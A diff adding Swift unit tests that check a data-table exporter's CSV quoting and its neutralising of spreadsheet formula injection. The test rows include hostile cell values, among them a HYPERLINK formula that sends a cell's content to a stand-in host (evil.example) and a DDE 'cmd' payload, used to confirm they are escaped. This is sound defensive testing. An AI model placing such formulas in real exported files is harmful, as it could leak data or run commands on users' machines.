@@ -18,6 +18,33 @@ final class DataTableTests: XCTestCase {
         XCTAssertEqual(table.csv(), "teks,jumlah,nilai,tanggal\r\n\"Sistem, Mekanisme, dan Prosedur\",1250,3.5,2025-09-08\r\n\"kata \"\"kutip\"\"\nbaris baru\tdan tab\",,,\r\n")
     }
 
+    /// A comma or a quote followed by a combining mark is one Swift
+    /// `Character`, but a spreadsheet splits the row at the comma.
+    func testACommaOrQuoteJoinedToAMarkIsStillQuoted() {
+        for joiner in JoiningScalars.all {
+            XCTAssertEqual(DataTable.csvField("Dokumen," + String(joiner) + "KOLOM"), "\"Dokumen," + String(joiner) + "KOLOM\"")
+            XCTAssertEqual(DataTable.csvField("a\"" + String(joiner) + "b"), "\"a\"\"" + String(joiner) + "b\"")
+        }
+        XCTAssertEqual(DataTable.csvField("satu\u{2028}dua"), "\"satu\u{2028}dua\"")
+    }
+
+    /// OWASP: a cell a spreadsheet would run gets a leading apostrophe in
+    /// the CSV; the JSON keeps the text as written.
+    func testAFormulaIsNeutralisedInTheCSVAndKeptInTheJSON() throws {
+        let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A3,\"Klik\")"
+        let hostile = DataTable(name: "uji", title: "Uji", description: "Uji",
+                                fields: [.init(name: "teks", type: .string, description: "Teks")],
+                                rows: [[.text(formula)], [.text("+1+cmd|' /C calc'!A0")], [.text("-2+3")], [.text("@SUM(A1)")],
+                                       [.text("\t=1")], [.text("\r=1")], [.text("-12,5")], [.text("+62")], [.text("-")], [.text("a=b")],
+                                       [.text("=" + "\u{301}" + "1+1")]])
+        XCTAssertEqual(hostile.csv().components(separatedBy: "\r\n").dropFirst().dropLast(), [
+            "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A3,\"\"Klik\"\")\"", "'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)",
+            "'\t=1", "\"'\r=1\"", "\"-12,5\"", "+62", "-", "a=b", "'=\u{301}1+1",
+        ])
+        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(hostile.json().utf8)) as? [[String: String]])
+        XCTAssertEqual(json.first?["teks"], formula)
+    }
+
     func testJSONIsAnArrayOfObjectsWithTypedValuesAndNulls() throws {
         let json = table.json()
         XCTAssertTrue(json.contains(#"{"teks": "Sistem, Mekanisme, dan Prosedur", "jumlah": 1250, "nilai": 3.5, "tanggal": "2025-09-08"}"#), json)
